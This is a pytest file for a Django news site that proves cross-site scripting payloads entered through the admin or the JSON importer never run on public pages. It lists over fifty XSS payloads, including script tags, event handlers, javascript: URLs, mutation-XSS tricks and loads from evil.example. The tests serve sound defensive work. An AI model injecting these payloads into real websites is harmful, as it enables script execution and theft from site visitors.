"""XSS proof: hostile text in every field, through the admin and the importer, never runs on a served page.

Every payload goes into every text field of a story, its section, author, tag and correction; then every
public surface that shows them is fetched and judged by tests/executable_html.py. New public surfaces
(feeds, sitemaps, search) join by adding a line to tests/public_surfaces.py; JSON-LD on a page is judged
wherever it appears.
"""

import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from articles.models import Article, Author, Section, Tag

from .executable_html import executable_constructs, html_problems
from .public_surfaces import surface_paths
from .test_admin import article_form

pytestmark = pytest.mark.django_db

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<p/onclick=alert(1)>click",
    # javascript:, vbscript: and data: URLs
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" &#14; javascript:alert(1)">link</a>',
    '<a href="java&#x09;script:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # mutation XSS via noscript, template, comments and foreign content
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    # broken and unquoted attributes, attribute breakouts
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "<img src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<a href=x onclick=alert(1)//>x</a>",
    # CSS expressions, styles and other active markup
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    # JSON-LD and JSON breakouts
    '</script><script>alert(1)</script>{"a":"',
    '"}</script><img src=x onerror=alert(1)>',
    "\\u003c/script\\u003e<script>alert(1)</script>",
]


def assert_nothing_runs(client, article):
    for path in surface_paths(article):
        response = client.get(path)
        assert response.status_code == 200, path
        assert executable_constructs(response) == [], path


def add_through_admin(client, payload, number):
    """One story, section, author, tag and correction, every text field carrying `payload`."""
    section_url, author_url, tag_url = (reverse(f"admin:articles_{m}_add") for m in ("section", "author", "tag"))
    assert (
        client.post(
            section_url, {"name": payload[:80], "slug": f"xss-{number}", "description": payload, "order": 0}
        ).status_code
        == 302
    )
    assert (
        client.post(author_url, {"name": payload[:120], "slug": f"xss-author-{number}", "bio": payload}).status_code
        == 302
    )
    assert client.post(tag_url, {"name": payload[:80], "slug": f"xss-tag-{number}"}).status_code == 302
    data = article_form(
        Section.objects.get(slug=f"xss-{number}"),
        Author.objects.get(slug=f"xss-author-{number}"),
        headline=payload[:110],  # the longest headline the publish checklist lets through
        slug=f"xss-story-{number}",
        standfirst=payload,
        body=f"<p>Before {payload} after.</p>{payload}",
        dateline=payload[:120],
        source=payload[:120],
        tags=[Tag.objects.get(slug=f"xss-tag-{number}").pk],
        **{
            "corrections-TOTAL_FORMS": "1",
            "corrections-0-kind": "correction",
            "corrections-0-note": payload,
            "corrections-0-created_at_0": "2026-01-02",
            "corrections-0-created_at_1": "10:00:00",
        },
    )
    response = client.post(reverse("admin:articles_article_add"), data)
    errors = response.context["adminform"].form.errors if response.status_code == 200 else {}
    if "body" in errors and set(errors) <= {"body", "__all__"}:
        # The admin refuses to publish a body picture without alt text, a payload's <img> included: a safe
        # outcome (nothing is stored). The other fields still carry the payload; the importer test below
        # puts it into a published body.
        assert not Article.objects.filter(slug=f"xss-story-{number}").exists()
        response = client.post(reverse("admin:articles_article_add"), {**data, "body": "<p>Before after.</p>"})
    assert response.status_code == 302, response.context["adminform"].form.errors if response.context else response
    return Article.objects.get(slug=f"xss-story-{number}")


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_hostile_text_typed_into_the_admin_never_runs_on_a_public_page(admin_client, client, number):
    article = add_through_admin(admin_client, PAYLOADS[number], number)

    assert article.is_published()
    assert_nothing_runs(client, article)


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_hostile_text_in_an_imported_file_never_runs_on_a_public_page(client, tmp_path, number):
    payload = PAYLOADS[number]
    story = {
        "headline": payload[:200],
        "standfirst": payload,
        "body_html": f"<p>{payload}</p>{payload}",
        "section": f"xss-{number}",
        "authors": [payload[:120]],
        "tags": [payload[:80]],
        "dateline": payload[:120],
        "source": payload[:120],
    }
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(story))

    call_command("import_articles", str(path))

    # Published by a plain save: the publish checklist would stop a long headline or a picture without alt
    # text at the import, and what is tested here is what readers get.
    article = Article.objects.get()
    article.status = Article.Status.PUBLISHED
    article.save()
    assert article.is_published() and article.headline == payload[:200].strip()
    assert_nothing_runs(client, article)


# Payloads that need a context to run (inside an attribute, after a naive filter, in an old browser):
# as plain markup in a page they are inert, so the judge rightly passes them.
NEED_A_CONTEXT = {
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<img src=`x`onerror=alert(1)>",
}


def test_the_judge_flags_every_payload_that_reaches_a_page_unescaped():
    """Without this, the tests above could pass on a judge that sees nothing."""
    assert len(PAYLOADS) >= 40
    for raw in PAYLOADS:
        assert bool(html_problems(f"<!doctype html><body><p>{raw}</p>")) != (raw in NEED_A_CONTEXT), raw
    assert html_problems('<script type="application/ld+json">{"a": 1}</script><script>alert(1)</script>')
    assert html_problems('<script type="application/ld+json">{"broken": </script>')
